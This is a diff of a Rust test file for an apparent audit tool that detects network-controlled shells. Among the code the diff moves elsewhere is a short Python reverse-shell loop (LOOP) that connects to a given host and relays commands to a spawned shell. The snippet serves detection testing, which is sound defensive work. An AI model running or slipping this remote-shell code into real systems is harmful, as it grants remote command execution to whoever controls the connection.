@@ -1,89 +1,20 @@
 //! Shells that are steered over the network by another program, with the real tools, and what only looks like that.
 
 use std::fs;
-use std::io::Read as _;
-use std::process::{ChildStdout, Command, Stdio};
 
-use nix::fcntl::{FcntlArg, OFlag, fcntl};
-use tests::{Debian, Far, FarSocket, Running, in_fresh_netns, until};
+use tests::{Far, FarSocket, in_fresh_netns, until};
 
 use super::Audit;
 use crate::actor;
+use crate::tools::{LOOP, SAID, Scene};
 
 /// Shell code that says which process it is, in words that its own echo on a terminal does not contain, and waits.
 const WHO: &str = "printf 'pid %s/%s' $$ $((6*7)); read -r x\n";
-const SAID: &str = "/42";
 
 /// The pid in the answer to [`WHO`].
 fn pid_in(answer: &str) -> u32 {
     let said = answer.strip_suffix(SAID).and_then(|said| said.rsplit("pid ").next());
     said.and_then(|pid| pid.parse().ok()).unwrap_or_else(|| panic!("no pid: {answer:?}"))
-}
-
-/// A Debian, and what runs in it.
-struct Scene {
-    // Dropped before `debian`.
-    running: Vec<Running>,
-    debian: Debian,
-}
-
-impl Scene {
-    fn new(test: &str) -> Option<Self> {
-        Some(Self { running: Vec::new(), debian: Debian::of_this_run(test)? })
-    }
-
-    /// A file in that root.
-    fn has(&self, path: &str, text: &str) {
-        self.debian.inside(|| fs::write(path, text).unwrap());
-    }
-
-    fn command(words: &[&str]) -> Command {
-        let mut command = Command::new(words[0]);
-        command.args(&words[1..]).env_clear().env("PATH", "/usr/sbin:/usr/bin:/sbin:/bin");
-        command.env("LC_ALL", "C.UTF-8").env("HOME", "/root").current_dir("/tmp");
-        command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
-        command
-    }
-
-    /// Starts a program.
-    fn start(&mut self, words: &[&str]) {
-        let running = self.debian.inside(|| Running::start(&mut Self::command(words)));
-        self.running.push(running);
-    }
-
-    /// Starts a program with this input, which stays open, and waits until it says [`SAID`]. Returns what it said.
-    fn answers(&mut self, words: &[&str], input: &str) -> String {
-        let mut running = self
-            .debian
-            .inside(|| Running::start(Self::command(words).stdin(Stdio::piped()).stdout(Stdio::piped())));
-        if !input.is_empty() {
-            running.tell(input);
-        }
-        let answer = read_until(&mut running.stdout(), SAID);
-        self.running.push(running);
-        answer
-    }
-
-    /// What a program prints that ends by itself.
-    fn output(&self, words: &[&str]) -> String {
-        let output = self.debian.inside(|| tests::output(&mut Self::command(words)));
-        assert!(output.status.success(), "{words:?}: {output:?}");
-        String::from_utf8(output.stdout).unwrap()
-    }
-}
-
-/// Reads until the output ends with `end`.
-fn read_until(stdout: &mut ChildStdout, end: &str) -> String {
-    fcntl(&*stdout, FcntlArg::F_SETFL(OFlag::O_NONBLOCK)).unwrap();
-    let mut said = Vec::new();
-    until(&format!("a program says {end}"), || {
-        let mut bytes = [0; 4096];
-        if let Ok(len) = stdout.read(&mut bytes) {
-            said.extend_from_slice(&bytes[..len]);
-        }
-        said.ends_with(end.as_bytes())
-    });
-    String::from_utf8_lossy(&said).into_owned()
 }
 
 /// Makes the shell at the other end of a connection say which process it is.
@@ -92,17 +23,6 @@ fn shell_at(controller: &FarSocket) -> u32 {
     controller.send(WHO);
     pid_in(&controller.receive_until(SAID))
 }
-
-/// A loop that hands the commands from a connection to a shell on pipes, and its output back.
-const LOOP: &str = "import socket, subprocess, sys
-c = socket.create_connection((sys.argv[1], int(sys.argv[2])))
-p = subprocess.PIPE
-sh = subprocess.Popen(sys.argv[3:], stdin=p, stdout=p, stderr=subprocess.STDOUT)
-while True:
-    sh.stdin.write(c.recv(1024))
-    sh.stdin.flush()
-    c.send(sh.stdout.read1(1024))
-";
 
 #[test]
 fn shell_behind_a_relay_is_a_finding() {
